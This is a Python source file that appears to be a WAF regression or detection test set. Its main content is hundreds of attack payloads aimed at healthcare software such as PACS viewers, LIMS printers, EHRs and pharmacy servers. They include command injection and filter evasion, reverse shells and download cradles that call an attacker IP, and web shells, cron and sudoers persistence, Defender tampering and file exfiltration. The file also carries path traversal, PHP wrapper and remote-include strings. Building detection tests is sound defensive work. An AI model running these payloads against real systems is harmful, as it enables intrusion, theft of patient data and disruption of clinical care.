"""Blind set "twohundredseventeenth": OS command injection, local file inclusion / path traversal and remote file
inclusion aimed at healthcare and life-sciences software, with benign requests that carry the same words innocently.

The angle: the software of hospitals, clinics, labs and insurers, recalled from memory. EHR and practice-management
web apps (PHP ones that include report templates and attachments by name), patient portals and appointment
booking, FHIR REST APIs (search parameters, _include, _filter, $operations), HL7 v2 interfaces and their web
gateways, DICOM/PACS web viewers and WADO endpoints that hand study and series UIDs to command-line converters,
LIMS and sample trackers that print barcodes through the shell, e-prescribing and pharmacy systems on Windows
servers, billing and claims portals, telehealth platforms, research data warehouses and REDCap-style survey tools,
medical-device management consoles with old CGI scripts. Each payload is written the way it is aimed at one of
those systems, in that system's own parameter (a study UID, an accession number, an MRN, a printer queue, a report
template, a FHIR _format) and still is a working attack on its named target; a comment above each group names the
family, the system and the target (sh/bash, cmd.exe, PowerShell, PHP include(), Java servlet container, IIS, the
product's own file layout).

Families (one sub-family per detection title):
  rce: unix-command-injection (; | || && ` $() newline), unix-shell-evasion (quotes, ${IFS}, globbing, brace
    expansion, variables), windows-cmd-injection, powershell, unix-command-with-path, reverse-shell (bash /dev/tcp,
    nc, python, perl, socat), shellshock, downloader (curl/wget | sh, certutil, bitsadmin), shell-file-write
    (echo > / tee), restricted-file-in-command
  lfi: path-traversal (../ and ..\\ in every encoding), os-file-access (/etc/passwd, /proc/self/*, win.ini,
    boot.ini, web.config, .htaccess, .git/, .env, id_rsa), absolute-path, null-byte-truncation, php-wrapper,
    log-poisoning-target, restricted-file-extension (.bak/.old/.config/.ini/.sql)
  rfi: url-with-ip-address, url-trailing-question-mark, include-parameter-with-url (page/file/template/include/
    path), off-domain-reference, remote-protocol (ftp://, smb://, \\\\host\\share, data:, expect:)

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path, and for file names an upload's file name), once the way a WAF regression suite
sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1), as a query
string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom header or a
cookie. Real parameter names follow the category (host, study_uid, accession, printer for commands; file, report,
template, attachment for inclusion; url, callback, logo_url for remote references; page, include, template, path,
module for the include-parameter family). Shellshock goes where CGI turns it into an environment variable: the
headers and cookie, and to CGI paths of device consoles. Payloads with control characters (newline, NUL) never go
into headers, cookies, the path or an upload's file name, and a NUL never into an XML body.

Authorship and independence: written for this repository from general knowledge of each attack family, of how
healthcare systems are built as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "twohundredseventeenth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
ATK = "198.51.100.23"   # the attacker's listener / web server (documentation range)
LONG_DOTS = "/." * 2100   # PHP < 5.3 path truncation: the 4096-byte limit cuts the appended ".php"

# ================================================================================================================
# rce
# ----------------------------------------------------------------------------------------------------------------
# unix-command-injection: separators after the value a web app hands to sh -c (system(), popen(), Runtime.exec
# of "sh -c ...", subprocess with shell=True)
UNIX_INJECTION: list[Entry] = [
    # DICOM/PACS web viewer: the study UID goes into `dcmj2pnm +oj /pacs/<uid>/...` for the thumbnail (sh)
    "1.2.840.113619.2.55.3.604688119.969.1268071029.320; id",
    "1.2.826.0.1.3680043.8.498.10238|cat /etc/passwd",
    "1.3.12.2.1107.5.1.4.73004.30000024061107261789400000015 && uname -a",
    # LIMS sample tracker: the barcode label is printed with `lp -d <printer>` (sh)
    "ward3-zebra;id;#",
    "lab-zebra-02 || whoami",
    "LAB-2024-000173`id`",
    # EHR PDF export: the patient name in HL7 XPN form reaches wkhtmltopdf's --title argument (sh)
    "DOE^JANE$(id)",
    "SMITH^JOHN^Q\"; id; echo \"",
    # medical-device management console: the "ping device" diagnostic (sh -c "ping -c 1 <host>")
    "10.40.12.7\nid",
    "10.40.12.7\r\ncat /etc/shadow",
    "127.0.0.1 -c 1; cat /etc/passwd",
    "infusion-pump-114.biomed.local$(sleep 8)",
    # HL7 v2 web gateway: the uploaded message file name is passed to a shell conversion script (sh)
    "ADT_A08_20240611.hl7';id;'",
    "ORU_R01.hl7; ps aux",
    # REDCap-style survey tool: the export job calls Rscript with the project id (sh)
    "4521 && cat /var/www/redcap/database.php",
    "4521;printenv",
    # telehealth recording: the session id reaches `ffmpeg -i /rec/<id>.webm` (sh)
    "visit-88213|sleep 10",
    "visit-88213`sleep 6`",
    "visit-88213 & id &",
]

# unix-shell-evasion: the same injections written so a word or character filter misses them (bash/sh)
UNIX_EVASION: list[Entry] = [
    # PACS thumbnailer, spaces stripped from the UID: ${IFS} and its variants stand in
    "1.2.840.10008.1;cat${IFS}/etc/passwd",
    "1.2.840.10008.1;cat$IFS$9/etc/shadow",
    "1.2.840.10008.1;{cat,/etc/passwd}",
    # LIMS label printer, the words cat/passwd blacklisted: quotes and backslashes split them
    "zebra01;c'a't /e't'c/pa's's'wd",
    "zebra01;c\\at /et\\c/pas\\swd",
    "zebra01;w\"h\"o\"a\"m\"i",
    "zebra01;who$@ami",
    # device console, letters filtered: globbing finds the binary and the file
    "10.40.12.7;/???/c?t /???/p?ss??",
    "10.40.12.7;/bin/c[a]t /etc/p[a]sswd",
    "10.40.12.7;/usr/bin/i*",
    # HL7 gateway script: the command built from variables and substrings
    "ADT.hl7;a=c;b=at;$a$b /etc/passwd",
    "ADT.hl7;${PATH:0:1}usr${PATH:0:1}bin${PATH:0:1}id",
    "ADT.hl7;X=$'\\x63\\x61\\x74';$X /etc/shadow",
    # REDCap export hook: the command arrives base64-encoded or reversed and is decoded by the shell
    "4521;echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh",
    "4521;$(echo aWQ=|base64 -d)",
    "4521;rev<<<'dwssap/cte/ tac'|sh",
    "4521;cat</etc/passwd",
    "4521;i$()d",
    # telehealth ffmpeg call: brace expansion inside command substitution
    "visit-1`{ls,-la,/var/lib/orthanc/db}`",
]

# windows-cmd-injection: cmd.exe separators (& && | ||) in Windows-hosted pharmacy, PACS and interface servers
WINDOWS_CMD: list[Entry] = [
    # e-prescribing server on IIS: the prescription number is passed to a label printing .bat (cmd.exe)
    "RX-10023 & whoami",
    "RX-10023 | type C:\\Windows\\win.ini",
    "RX-10023 && net user",
    "RX-10023 || ipconfig /all",
    # Windows PACS archive: the study folder is handed to a cmd /c copy job
    "1.2.840.113619.2.1 & dir C:\\ProgramData\\PACS\\Archive",
    "1.2.840.113619.2.1 & type C:\\inetpub\\wwwroot\\web.config",
    "1.2.840.113619.2.1\" & whoami & \"",
    # interface engine on Windows Server: the "test connection" host field (cmd.exe)
    "hl7-lis.hospital.local & systeminfo",
    "hl7-lis.hospital.local & tasklist /v",
    "hl7-lis.hospital.local & net localgroup administrators",
    "hl7-lis.hospital.local & reg query HKLM\\SOFTWARE\\Mirth",
    "hl7-lis.hospital.local & ping -n 12 127.0.0.1",
    # billing portal: the claim batch name in a cmd.exe call, caret escapes against a keyword filter
    "BATCH_837P_0611&w^h^o^a^m^i",
    "BATCH_837P_0611&set",
    "BATCH_837P_0611&echo %USERNAME%&echo %COMPUTERNAME%",
    "BATCH_837P_0611&wmic process list brief",
    "BATCH_837P_0611&for /f %i in ('whoami') do nslookup %i.oast.example",
    "BATCH_837P_0611&netstat -ano",
]

# powershell: PowerShell started from an injection, or injected into a script the server runs with PowerShell
POWERSHELL: list[Entry] = [
    # pharmacy dispensing cabinet console (Windows): the cabinet name reaches a .ps1 called by cmd.exe
    "CAB-ICU-3 & powershell -NoProfile -Command Get-ChildItem C:\\ProgramData\\Pyxis",
    "CAB-ICU-3 & powershell -enc dwBoAG8AYQBtAGkA",
    "CAB-ICU-3 & powershell -nop -w hidden -ep bypass -enc "
    "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAG"
    "kAbgBnACgAJwBoAHQAdABwADoALwAvADEAOQA4AC4ANQAxAC4AMQAwADAALgAyADMALwBhACcAKQA=",
    "CAB-ICU-3 & powershell -EncodedCommand "
    "RwBlAHQALQBDAG8AbgB0AGUAbgB0ACAAQwA6AFwAUAByAG8AZwByAGEAbQBEAGEAdABhAFwATQBpAHIAdABoAFwAbQBpAHIAdABoAC4AcAByAG8A"
    "cABlAHIAdABpAGUAcwA=",
    # Windows PACS: the series description lands inside a PowerShell string the export script evaluates
    "CT CHEST'; Get-Content C:\\Windows\\win.ini; '",
    "CT CHEST'; Start-Process calc.exe; '",
    "CT CHEST\"; Invoke-Expression 'whoami'; \"",
    "$(Get-ChildItem Env: | Out-String)",
    # interface engine host on Windows: download cradles and recon through PowerShell
    f"hl7-lis & powershell IEX (New-Object Net.WebClient).DownloadString('http://{ATK}/ps.ps1')",
    f"hl7-lis & powershell -c \"iwr http://{ATK}/r.ps1 -UseBasicParsing | iex\"",
    "hl7-lis & powershell -c \"Get-WmiObject Win32_UserAccount | Select Name,SID\"",
    "hl7-lis & pwsh -c Get-LocalUser",
    f"hl7-lis & powershell.exe -ExecutionPolicy Bypass -File \\\\{ATK}\\s\\run.ps1",
    # billing server: defender tampering and data staging before exfiltration (PowerShell)
    "837P & powershell Set-MpPreference -DisableRealtimeMonitoring $true",
    "837P & powershell Add-MpPreference -ExclusionPath C:\\Users\\Public",
    "837P & powershell -c \"Compress-Archive C:\\Claims\\Export\\* C:\\inetpub\\wwwroot\\c.zip\"",
    "837P & powershell -c \"[System.Net.Dns]::GetHostAddresses($env:USERNAME+'.oast.example')\"",
    "837P & powershell Remove-Item -Recurse -Force C:\\DICOM\\Incoming",
]

# unix-command-with-path: commands called by their full path (sh), past a filter on bare command names
UNIX_PATHS: list[Entry] = [
    # DICOM WADO-URI endpoint: the objectUID handed to a dcmtk script (sh)
    "1.2.276.0.7230010.3.1.4.8323329.1;/bin/cat /etc/passwd",
    "1.2.276.0.7230010.3.1.4.8323329.1|/usr/bin/id",
    "1.2.276.0.7230010.3.1.4.8323329.1&&/bin/uname -a",
    "1.2.276.0.7230010.3.1.4.8323329.1;/usr/bin/whoami",
    # OpenEMR-style practice-management box: recon of the site configuration
    "`/usr/bin/env`",
    "$(/bin/ls -la /var/www/openemr/sites/default)",
    "x;/usr/bin/find / -name sqlconf.php",
    "x;/sbin/ifconfig -a",
    # LIMS instrument import: interpreters by full path
    "run_0611.csv;/usr/bin/python3 -c 'import os;os.system(\"id\")'",
    "run_0611.csv;/usr/bin/perl -e 'system(\"id\")'",
    "run_0611.csv;/usr/bin/awk 'BEGIN{system(\"id\")}'",
    "run_0611.csv;/bin/sh -c id",
    "run_0611.csv;/bin/bash -c 'cat /etc/passwd'",
    # device console: persistence and privilege checks, DNS exfiltration
    "10.40.12.7;/usr/bin/crontab -l",
    "10.40.12.7;/usr/bin/sudo -l",
    "10.40.12.7;/usr/bin/nslookup $(whoami).oast.example",
    "10.40.12.7;/usr/bin/base64 /etc/shadow",
]

# reverse-shell: an interactive shell back to the attacker from the injected command
REVERSE: list[Entry] = [
    # PACS thumbnailer (bash): /dev/tcp
    f"1.2.840.10008.5;bash -i >& /dev/tcp/{ATK}/4444 0>&1",
    f"1.2.840.10008.5;$(bash -c 'exec bash -i &>/dev/tcp/{ATK}/443 <&1')",
    f"1.2.840.10008.5;0<&196;exec 196<>/dev/tcp/{ATK}/4444; sh <&196 >&196 2>&196",
    f"1.2.840.10008.5;sh -i >& /dev/udp/{ATK}/53 0>&1",
    # LIMS printer queue (sh): netcat, ncat, busybox and the mkfifo variant
    f"zebra01|nc -e /bin/sh {ATK} 4444",
    f"zebra01;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ATK} 4444 >/tmp/f",
    f"zebra01|ncat {ATK} 4444 -e /bin/bash",
    f"zebra01;busybox nc {ATK} 4444 -e sh",
    f"zebra01;telnet {ATK} 4444 | /bin/bash | telnet {ATK} 4445",
    # research data warehouse ETL host (sh): interpreters
    f"etl_0611;python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{ATK}\",4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
    f"etl_0611;perl -e 'use Socket;$i=\"{ATK}\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");"
    "exec(\"/bin/sh -i\");};'",
    f"etl_0611;php -r '$s=fsockopen(\"{ATK}\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    f"etl_0611;ruby -rsocket -e'f=TCPSocket.open(\"{ATK}\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\","
    "f,f,f)'",
    f"etl_0611;node -e 'require(\"child_process\").exec(\"nc -e /bin/sh {ATK} 4444\")'",
    # telehealth media server (sh): socat with a pty, awk's /inet
    f"visit-1;socat tcp-connect:{ATK}:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane",
    f"visit-1;socat TCP:{ATK}:443 EXEC:bash",
    f"visit-1;awk 'BEGIN{{s=\"/inet/tcp/0/{ATK}/4444\";while(1){{printf \"> \"|&s;s|&getline c;"
    "if(c){while((c|&getline)>0)print|&s;close(c)}}}'",
    # Windows pharmacy server (PowerShell): the TCPClient one-liner
    f"RX-1 & powershell -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('{ATK}',443);"
    "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};"
    "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;"
    "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
    "$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);"
    "$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()\"",
]

# shellshock: a function definition in a header that a bash CGI script of an old device console or PACS gateway
# imports as an environment variable (CVE-2014-6271 and its follow-up CVE-2014-7169)
SHELLSHOCK: list[Entry] = [
    "() { :; }; /bin/bash -c 'id'",
    "() { :;}; echo; /bin/cat /etc/passwd",
    "() { :; }; echo Content-Type: text/plain; echo; /usr/bin/id",
    "() { _; } >_[$($())] { id; }",
    f"() {{ :; }}; /usr/bin/wget http://{ATK}/s -O /tmp/s",
    f"() {{ :;}}; /bin/bash -i >& /dev/tcp/{ATK}/4444 0>&1",
    "() { x;}; /bin/sleep 20",
    f"() {{ 0; }}; /bin/ping -c 3 {ATK}",
    f"() {{ :; }}; /usr/bin/curl -d @/etc/passwd http://{ATK}/",
    f"() {{ :;}};/bin/nc {ATK} 4444 -e /bin/sh",
    "() { (a)=>\\' bash -c \"echo id\"",
    f"() {{ :; }}; exec 5<>/dev/tcp/{ATK}/80",
    "() { :;}; /bin/ls /opt/pump/config",
    "() { :; }; /usr/bin/nslookup shock.oast.example",
    "() { :; }; /bin/cat /etc/infusion/drug_library.xml",
    "() { ignored;}; /bin/uname -a",
]

# downloader: fetch a second stage and run it (sh, busybox on an embedded device, cmd.exe LOLBins)
DOWNLOADER: list[Entry] = [
    # PACS thumbnailer and LIMS printer (sh)
    f"1.2.840.10008.9;curl http://{ATK}/x.sh|sh",
    f"1.2.840.10008.9;wget -qO- http://{ATK}/x.sh|bash",
    "zebra01|curl -s https://malicious.example/pacs.sh | bash",
    f"zebra01;wget http://{ATK}/m -O /tmp/m;chmod +x /tmp/m;/tmp/m",
    "zebra01;$(curl -fsSL https://evil.example/i.sh|sh)",
    f"zebra01;curl -o /tmp/.x http://{ATK}/x && sh /tmp/.x",
    f"zebra01`wget -O /tmp/k http://{ATK}/k`",
    # embedded patient-monitor gateway (busybox, Mirai-style)
    f"10.40.12.7;cd /tmp;busybox wget http://{ATK}/mips -O- >m; chmod 777 m; ./m",
    f"10.40.12.7;tftp -g -r arm7 {ATK};chmod +x arm7;./arm7",
    f"10.40.12.7;fetch -o - http://{ATK}/x.sh | sh",
    # research ETL host: interpreters as downloaders, and data going out
    f"etl_0611;python3 -c \"import urllib.request as u;exec(u.urlopen('http://{ATK}/p.py').read())\"",
    f"etl_0611;lwp-download http://{ATK}/x.pl /tmp/x.pl; perl /tmp/x.pl",
    f"etl_0611|curl -d @/var/www/openemr/sites/default/sqlconf.php http://{ATK}/",
    f"etl_0611;curl http://{ATK}/$(hostname)",
    # Windows pharmacy and billing servers (cmd.exe)
    f"RX-1 & certutil -urlcache -split -f http://{ATK}/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
    f"RX-1 & bitsadmin /transfer j /download /priority high http://{ATK}/a.exe C:\\Users\\Public\\a.exe",
    f"RX-1 & mshta http://{ATK}/a.hta",
    f"RX-1 & regsvr32 /s /n /u /i:http://{ATK}/f.sct scrobj.dll",
]

# shell-file-write: write a web shell, a key or a cron job through the shell (sh, cmd.exe)
FILE_WRITE: list[Entry] = [
    # OpenEMR-style PHP EHR: a web shell in its document root
    "x;echo '<?php system($_GET[\"c\"]); ?>' > /var/www/openemr/c.php",
    "x;echo PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg==|base64 -d > /var/www/html/redcap/s.php",
    "x;printf '<?php passthru($_REQUEST[0]);' > /var/www/html/portal/p.php",
    # Java-based PACS viewer on Tomcat: a JSP shell written with tee
    "x|tee /opt/tomcat/webapps/ROOT/s.jsp <<< '<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>'",
    # device console and interface engine: persistence by key, cron, profile and sudoers
    "x;echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ3qkVx0p8Yt5Zb1m4Wc2e7fLr9sNd6hUaQ0oX1yTgKc op@kali' "
    ">> /root/.ssh/authorized_keys",
    f"x;echo '* * * * * root curl http://{ATK}/c|sh' >> /etc/crontab",
    f"x;(crontab -l; echo '@reboot nc {ATK} 4444 -e /bin/sh') | crontab -",
    f"x;echo 'bash -i >& /dev/tcp/{ATK}/4444 0>&1' >> ~/.bashrc",
    "x;tee -a /etc/sudoers <<< 'www-data ALL=(ALL) NOPASSWD:ALL'",
    "x;echo 'lims:$1$xyz$Pq0fS7tUjvC1n2rKmHq9v/:0:0::/root:/bin/bash' >> /etc/passwd",
    "x;cp /bin/sh /tmp/.s; chmod 4755 /tmp/.s",
    # PACS web root: command output written where the viewer serves it (sh)
    "1.2.3;id > /usr/share/orthanc/www/out.txt",
    "1.2.3;cat /etc/passwd > /var/www/html/pacs/viewer/p.txt",
    "1.2.3;dd if=/etc/shadow of=/var/www/html/s.txt",
    # Windows e-prescribing server on IIS (cmd.exe)
    "RX-1 & echo ^<%@ Page Language=\"Jscript\"%^>^<%eval(Request.Item[\"c\"],\"unsafe\");%^> "
    "> C:\\inetpub\\wwwroot\\erx\\c.aspx",
    "RX-1 & echo net user helpdesk Winter2024! /add > C:\\ProgramData\\u.bat",
    "RX-1 & type C:\\ProgramData\\Mirth\\mirth.properties > C:\\inetpub\\wwwroot\\m.txt",
]

# restricted-file-in-command: a command that reads a sensitive file by name (sh, cmd.exe)
RESTRICTED_IN_CMD: list[Entry] = [
    "1.2.840.1;cat /etc/shadow",
    "1.2.840.1|head /etc/passwd",
    "1.2.840.1;more /root/.bash_history",
    "1.2.840.1;cat /home/mirth/.ssh/id_rsa",
    "1.2.840.1;cat /proc/self/environ",
    "1.2.840.1;tail -n 50 /var/log/auth.log",
    "zebra01&&cat ~/.aws/credentials",
    "zebra01;cat /var/www/openemr/sites/default/sqlconf.php",
    "zebra01;grep -ri password /etc/orthanc/",
    "zebra01;cat /opt/mirthconnect/conf/mirth.properties",
    "zebra01;strings /etc/krb5.keytab",
    "zebra01;cat /etc/ssl/private/his.key",
    "zebra01;nl /etc/group",
    "zebra01;od -c /etc/sudoers",
    "zebra01;xxd /etc/master.passwd",
    "RX-1 & type C:\\Windows\\repair\\sam",
    "RX-1 & type C:\\Windows\\System32\\drivers\\etc\\hosts",
    "RX-1 & type C:\\Windows\\Panther\\Unattend.xml",
]

# ================================================================================================================
# lfi
# ----------------------------------------------------------------------------------------------------------------
# path-traversal: ../ and ..\ in every encoding, in the file parameter of a report, attachment or image download
TRAVERSAL: list[Entry] = [
    # OpenEMR-style PHP EHR: the scanned-document viewer's `doc` parameter (PHP readfile)
    "../../../../etc/passwd",
    "../../../../../../../../../../etc/passwd",
    "documents/1001/../../../../../../etc/hosts",
    "/../../../../../../../../etc/shadow",
    # Windows PACS web viewer (IIS): the series image path, backslashes
    "..\\..\\..\\..\\windows\\win.ini",
    "..\\..\\..\\..\\..\\boot.ini",
    "..\\/..\\/..\\/..\\/etc/passwd",
    # percent-encoded once, twice, and overlong UTF-8 against a decoding filter (Apache/Tomcat PACS gateways)
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    ".%2e/.%2e/.%2e/.%2e/etc/passwd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%5c..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini",
    "..%255c..%255c..%255c..%255cwindows%255cwin.ini",
    "%uff0e%uff0e%u2215%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
    "..%u2216..%u2216..%u2216windows%u2216win.ini",
    # filters that strip ../ once (LIMS report download)
    "....//....//....//....//etc/passwd",
    "..././..././..././..././etc/passwd",
    "....\\\\....\\\\....\\\\windows\\\\win.ini",
    # Java REDCap-like survey tool on Tomcat: path parameters and WEB-INF
    "..;/..;/..;/WEB-INF/web.xml",
    "/static/..;/WEB-INF/classes/application.properties",
    "../../../../../../proc/self/cwd/config/database.yml",
]

# os-file-access: the well-known files an attacker asks for by name, relative to the app's own folder
OS_FILES: list[Entry] = [
    # patient portal (Laravel / Node): secrets beside the app
    ".env",
    "../.env",
    ".git/config",
    ".git/HEAD",
    "../../.git/logs/HEAD",
    ".svn/entries",
    ".htaccess",
    ".htpasswd",
    "../.aws/credentials",
    ".ssh/id_rsa",
    "../../../home/mirth/.ssh/id_rsa",
    ".bash_history",
    # Java FHIR server on Tomcat, ASP.NET billing portal on IIS: deployment descriptors and configs
    "WEB-INF/web.xml",
    "../WEB-INF/classes/hapi.properties",
    "web.config",
    "../../web.config",
    "App_Data/claims.mdf",
    # Linux and Windows system files the EHR host exposes
    "../../../../proc/self/environ",
    "../../../../proc/self/cmdline",
    "../../../../proc/version",
    "../../../../etc/issue",
    "../../../../windows/system32/config/sam",
    "..\\..\\..\\..\\windows\\system.ini",
    "../../../../etc/group",
]

# absolute-path: the file named from the root (PHP include/readfile, Java File, .NET Path.Combine with a rooted
# second argument)
ABSOLUTE: list[Entry] = [
    # DICOMweb/WADO proxy that joins the path to its storage root (Path.Combine / os.path.join drop the root)
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/root/.ssh/id_rsa",
    "/proc/self/environ",
    "/proc/self/status",
    "/proc/1/cmdline",
    "/var/lib/orthanc/db/index",
    "/etc/orthanc/orthanc.json",
    "/opt/mirthconnect/conf/mirth.properties",
    "/var/www/openemr/sites/default/sqlconf.php",
    "/var/www/html/redcap/database.php",
    "/usr/local/tomcat/conf/tomcat-users.xml",
    "/etc/mysql/my.cnf",
    # Windows PACS and pharmacy servers: drive-rooted, UNC-style and URL-style absolute paths
    "C:\\Windows\\win.ini",
    "C:/Windows/System32/drivers/etc/hosts",
    "c:\\boot.ini",
    "C:\\inetpub\\wwwroot\\web.config",
    "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config",
    "\\\\?\\C:\\Windows\\win.ini",
    "\\\\localhost\\c$\\windows\\win.ini",
    "file:///etc/passwd",
    "file:///C:/Windows/win.ini",
]

# null-byte-truncation: the appended extension (.pdf, .dcm, .hl7, .php) cut off by a NUL or by path truncation
# (PHP before 5.3.4, old Java and C helpers behind PACS gateways)
NULL_BYTE: list[Entry] = [
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%00.pdf",
    "../../../../etc/passwd%00.dcm",
    "../../../etc/shadow%00.hl7",
    "..\\..\\..\\boot.ini%00.jpg",
    "../../../../windows/win.ini%00.html",
    "../../../../etc/passwd%2500.png",
    "..%2f..%2f..%2fetc%2fpasswd%00.xml",
    "../../../../var/www/openemr/sites/default/sqlconf.php%00.txt",
    "/etc/passwd%00",
    "../../../etc/hosts%00index.html",
    "....//....//etc/passwd%00",
    "php://filter/resource=/etc/passwd%00",
    "../../../../etc/passwd\x00",
    "../../../../etc/passwd\x00.pdf",
    "/etc/passwd\x00.hl7",
    "../../../../etc/shadow\x00.dcm",
    "..\\..\\..\\windows\\win.ini\x00.txt",
    # path truncation: thousands of /. make the appended .php fall off the end
    "../../../../etc/passwd" + LONG_DOTS,
    "../../../../etc/passwd" + "/" * 4100,
    "../../../../etc/passwd" + "." * 4100,
    # Windows trailing dots and spaces drop off the name
    "..\\..\\..\\boot.ini....................",
    "..\\..\\..\\windows\\win.ini. . . . . . . . . .",
]

# php-wrapper: PHP stream wrappers in an include()/file_get_contents() of a PHP EHR, portal or survey tool
PHP_WRAPPER: list[Entry] = [
    # OpenEMR-style EHR: source of the database config
    "php://filter/convert.base64-encode/resource=../../sites/default/sqlconf.php",
    "php://filter/read=convert.base64-encode/resource=interface/globals.php",
    "php://filter/convert.base64-encode/resource=../../../../etc/hosts",
    "php://filter/convert.base64-encode|convert.base64-decode/resource=interface/globals.php",
    "PHP://FILTER/convert.base64-encode/resource=library/sql.inc",
    "pHp://FiLtEr/convert.base64-encode/resource=index.php",
    # REDCap-like survey tool: other filters against a filter that only looks for base64
    "php://filter/read=string.rot13/resource=database.php",
    "php://filter/string.toupper|string.rot13/resource=redcap_connect.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=database.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/redcap/database.php",
    "php://filter/read=convert.quoted-printable-encode/resource=/etc/passwd",
    "php://filter/resource=/etc/passwd",
    # patient portal's template include: code from the request body or an uploaded file
    "php://input",
    "php://fd/0",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg==",
    "data://text/plain,<?php phpinfo(); ?>",
    # uploaded consent scans and lab ZIPs turned into code (phar:// and zip:// wrappers)
    "phar://../../sites/default/documents/1001/consent.jpg/shell.php",
    "phar:///tmp/php_upload_study.dcm/x.php",
    "zip:///var/www/openemr/sites/default/documents/1001/scan.zip#x.php",
    "zip://uploads/lab_import.zip%23cmd.php",
    # other wrappers that read or list files
    "compress.zlib:///etc/passwd",
    "compress.bzip2://../../config.php",
    "glob:///var/www/html/*",
]

# log-poisoning-target: files an attacker first writes PHP into (a User-Agent, an SSH or SMTP login, a session
# value) and then includes through the EHR's template parameter
LOG_TARGETS: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "/var/log/apache2/error.log",
    "/var/log/httpd/access_log",
    "/var/log/nginx/access.log",
    "../../../../var/log/nginx/error.log",
    "/usr/local/apache/logs/access_log",
    "/var/log/auth.log",
    "/var/log/secure",
    "/var/log/mail.log",
    "/var/log/vsftpd.log",
    "/var/log/syslog",
    "/var/log/php-fpm/www-error.log",
    "/var/mail/www-data",
    "/var/spool/mail/apache",
    "/var/lib/php/sessions/sess_9f2c1e7a4b3d5f60",
    "/tmp/sess_9f2c1e7a4b3d5f60",
    "/proc/self/fd/2",
    "/proc/self/fd/9",
    "../../../../proc/self/environ%00",
    "../../../../var/log/mirthconnect/mirth.log",
    "/var/log/orthanc/Orthanc.log",
    "C:\\xampp\\apache\\logs\\access.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240611.log",
]

# restricted-file-extension: backups, dumps and config files the export or attachment download hands out
RESTRICTED_EXT: list[Entry] = [
    "patients_export_2024-06.sql",
    "../backup/openemr_full.sql",
    "dump.sql",
    "config.php.bak",
    "sqlconf.php.old",
    "web.config.bak",
    "database.php~",
    "database.php.save",
    "globals.php.swp",
    "settings.ini",
    "../conf/lims.ini",
    "php.ini",
    "my.cnf",
    "mirth.properties.bak",
    "orthanc.json.orig",
    "EHR_backup_20240611.bak",
    "httpd.conf.bak",
    "config.inc.php.dist",
    "../App_Data/pharmacy.mdb",
    "applicationHost.config",
    "../../appsettings.Production.json.bak",
    "hapi.properties.old",
    ".env.bak",
]

# ================================================================================================================
# rfi
# ----------------------------------------------------------------------------------------------------------------
# url-with-ip-address: the remote script addressed by IP (PHP include() with allow_url_include, a template or
# stylesheet fetched by the report engine)
RFI_IP: list[Entry] = [
    # OpenEMR-style EHR, the report template parameter (PHP include)
    f"http://{ATK}/shell.txt",
    f"http://{ATK}/templates/discharge_summary.php",
    f"http://{ATK}:8080/r57.txt",
    f"https://{ATK}/inc/c99.txt",
    "http://203.0.113.9/phpinfo.txt",
    "http://203.0.113.9:8000/cmd.php",
